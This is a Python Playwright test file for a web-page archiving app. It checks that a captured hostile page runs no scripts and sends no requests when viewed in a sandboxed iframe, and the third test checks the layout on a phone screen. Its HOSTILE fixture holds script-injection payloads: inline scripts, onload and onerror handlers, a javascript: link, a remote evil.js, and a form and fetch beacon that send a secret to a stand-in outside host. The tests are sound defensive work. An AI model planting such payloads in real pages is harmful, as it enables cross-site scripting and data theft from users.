"""A hostile page, captured and opened inside the site: nothing runs, nothing leaves the machine.

Two walls are checked: the capture strips scripts and handlers, and — for an archive that somehow
still holds them — the sandboxed iframe and the archive CSP stop them in the browser.
"""

import pytest
from playwright.sync_api import expect

from snapshots.models import Blob, Link, Snapshot
from snapshots.services.archives import blob_store
from tests.support.capture import captured, stored_archive
from tests.support.servers import LocalHTTPServer

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

HOSTILE = """<!DOCTYPE html>
<html><head><title>Hostile page</title>
<meta http-equiv="refresh" content="0; url={elsewhere}/refresh">
<script>document.title = "pwned by script"; window.pwned = true;</script>
<script src="{elsewhere}/evil.js"></script>
<link rel="stylesheet" href="{elsewhere}/evil.css">
</head>
<body onload="document.body.innerHTML = 'PWNED by onload'">
<h1>Static content stays</h1>
<p id="words">Plain words that must still be shown.</p>
<img id="external" src="{elsewhere}/tracker.png" alt="tracker">
<img id="broken" src="/nowhere.png" onerror="document.title = 'pwned by onerror'">
<form action="{elsewhere}/collect" method="post">
  <input name="secret" value="my secret"><button id="send" type="submit">Send</button>
</form>
<a id="jslink" href="javascript:document.title = 'pwned by link'">a link</a>
<script>document.getElementById("words").textContent = "PWNED by inline script";
fetch("{elsewhere}/beacon");</script>
</body></html>
"""


def watch_requests(page, live_server):
    seen = []
    page.on("request", lambda request: seen.append(request.url))
    return lambda: [url for url in seen if not url.startswith((live_server.url, "data:"))]


def open_in_site(page, snapshot):
    page.goto(f"/snapshots/{snapshot.pk}/view/")
    frame = page.frame_locator("iframe.snapshot-frame")
    expect(frame.locator("h1")).to_have_text("Static content stays")
    page.wait_for_load_state("networkidle")
    return frame


def test_hostile_page_archive_runs_nothing_and_fetches_nothing(
    signed_in_page, live_server, user, elsewhere, capture_settings
):
    page = signed_in_page
    with LocalHTTPServer() as origin:
        hostile = HOSTILE.format(elsewhere=f"http://127.0.0.1:{elsewhere.port}")
        origin.route("/hostile.html", body=hostile.encode(), headers={"Content-Type": "text/html"})
        capture_settings.KB_FETCH_ALLOW_HOSTS = [f"127.0.0.1:{origin.port}"]
        snapshot = captured(user, origin.url("/hostile.html"))
    assert snapshot.status == Snapshot.Status.SUCCEEDED, snapshot.error
    assert elsewhere.connection_count == 0  # the fetcher refused the listener's address too

    outside = watch_requests(page, live_server)
    frame = open_in_site(page, snapshot)
    expect(frame.locator("#words")).to_have_text("Plain words that must still be shown.")
    expect(frame.locator("body")).not_to_contain_text("PWNED")
    frame.locator("#send").click()
    frame.locator("#jslink").click()
    page.wait_for_load_state("networkidle")

    expect(page).to_have_title(f"{snapshot.title} · kb")
    assert page.frames[1].evaluate("document.title") == "Hostile page"
    assert page.frames[1].evaluate("window.pwned") is None
    assert outside() == []
    assert elsewhere.connection_count == 0
    assert elsewhere.bytes_received == 0


def test_scripts_left_in_an_archive_are_stopped_by_the_sandbox(
    signed_in_page, live_server, user, elsewhere, capture_settings
):
    """The second wall: an archive that still holds scripts (as if the capture had missed them)."""
    page = signed_in_page
    raw = HOSTILE.format(elsewhere=f"http://127.0.0.1:{elsewhere.port}").encode()
    snapshot = stored_archive(user, raw, "Hostile page")

    outside = watch_requests(page, live_server)
    frame = open_in_site(page, snapshot)
    expect(frame.locator("#words")).to_have_text("Plain words that must still be shown.")
    frame.locator("#send").click()
    page.wait_for_load_state("networkidle")

    assert page.frames[1].evaluate("document.title") == "Hostile page"
    assert page.frames[1].evaluate("window.pwned") is None
    # The browser may list blocked requests, but none reaches the listener.
    assert elsewhere.connection_count == 0
    assert all(url.startswith(f"http://127.0.0.1:{elsewhere.port}") for url in outside())


def test_snapshot_pages_fit_a_phone_screen(signed_in_page, user, capture_settings):
    page = signed_in_page
    page.set_viewport_size({"width": 375, "height": 740})
    raw = b"<html><body><h1>Static content stays</h1><p>" + b"word " * 400 + b"</p></body></html>"
    sha, _ = blob_store().put(raw)
    Blob.objects.create(sha256=sha, size=len(raw), content_type="text/html;charset=utf-8")
    url = "https://example.org/" + "a-very-long-path-segment/" * 8
    link = Link.objects.create(owner=user, url=url, normalized_url=url)
    snapshot = Snapshot.objects.create(
        link=link,
        status=Snapshot.Status.SUCCEEDED,
        archive_id=sha,
        title="A title that is rather long for a small phone screen, as titles often are",
        content_type="text/html;charset=utf-8",
        text="word " * 400,
        reader_html="<p>" + "word " * 400 + "</p>",
    )
    snapshot.blobs.set([sha])
    for kind in ("view", "reader"):
        page.goto(f"/snapshots/{snapshot.pk}/{kind}/")
        expect(page.get_by_role("link", name="Download")).to_be_visible()
        assert page.evaluate("document.documentElement.scrollWidth") <= 375, kind
